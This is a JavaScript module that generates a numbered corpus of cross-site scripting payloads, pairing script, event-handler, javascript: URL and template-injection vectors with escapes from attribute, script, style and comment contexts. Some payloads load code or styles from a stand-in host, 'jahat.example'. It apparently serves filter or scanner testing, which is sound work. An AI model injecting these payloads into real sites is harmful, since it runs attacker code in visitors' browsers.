// Texts that try to run something in a visitor's browser: each way of running crossed with each way
// of breaking out of the place where a value is written. The number in each tells which one ran.

/** Ways to run code, or to load something from elsewhere. */
const vectors = [
  (n) => `<script>alert(${n})</script>`,
  (n) => `<script src=https://jahat.example/${n}.js></script>`,
  (n) => `<img src=x onerror=alert(${n})>`,
  (n) => `<svg onload=alert(${n})>`,
  (n) => `<svg><script>alert(${n})</script></svg>`,
  (n) => `<svg><animate onbegin=alert(${n}) attributeName=x dur=1s>`,
  (n) => `<math><mtext><img src=x onerror=alert(${n})></math>`,
  (n) => `<iframe srcdoc="<script>parent.alert(${n})</script>"></iframe>`,
  (n) => `<iframe src=javascript:parent.alert(${n})></iframe>`,
  (n) => `<input autofocus onfocus=alert(${n})>`,
  (n) => `<details open ontoggle=alert(${n})>x</details>`,
  (n) => `<video><source onerror=alert(${n})></video>`,
  (n) => `<body onpageshow=alert(${n})>`,
  (n) => `<style>@import "https://jahat.example/${n}.css";</style>`,
  (n) => `<link rel=stylesheet href=https://jahat.example/${n}.css>`,
  (n) => `<meta http-equiv=refresh content="0;url=https://jahat.example/${n}">`,
  (n) => `<base href=https://jahat.example/${n}/>`,
  (n) => `<object data=https://jahat.example/${n}></object>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=alert(${n})>">`,
  (n) => `<template><img src=x onerror=alert(${n})></template><img src=x onerror=alert(${n})>`,
  (n) => `<a href="javascript:alert(${n})">x</a>`,
  (n) => `<form action=https://jahat.example/${n}><button autofocus onfocus=alert(${n})>x</button></form>`,
  (n) => `{{ alert(${n}) }}{% set x = ${n} %}\${alert(${n})}`,
  (n) => `onmouseover=alert(${n}) style=background:url(https://jahat.example/${n})`,
];

/** Ways to leave the place where a value stands. */
const breakouts = [
  (v) => v,
  (v) => `">${v}`,
  (v) => `'>${v}`,
  (v) => `" ${v.replace(/[<>]/g, " ")} x="`,
  (v) => `</title>${v}`,
  (v) => `</script>${v}`,
  (v) => `</style>${v}`,
  (v) => `</textarea></template>${v}`,
  (v) => `-->${v}<!--`,
  (v) => `]]>${v}`,
  (v) => `"};${v}//`,
  (v) => `\\">${v}`,
  (v) => v.replace(/</g, "&lt;").replace(/>/g, "&gt;"),
  (v) => encodeURIComponent(v),
  (v) => v.replace(/</g, "\\u003c"),
];

/** Every payload, numbered from 1. */
export const payloads = breakouts.flatMap((breakout, row) =>
  vectors.map((vector, column) => breakout(vector(row * vectors.length + column + 1))),
);
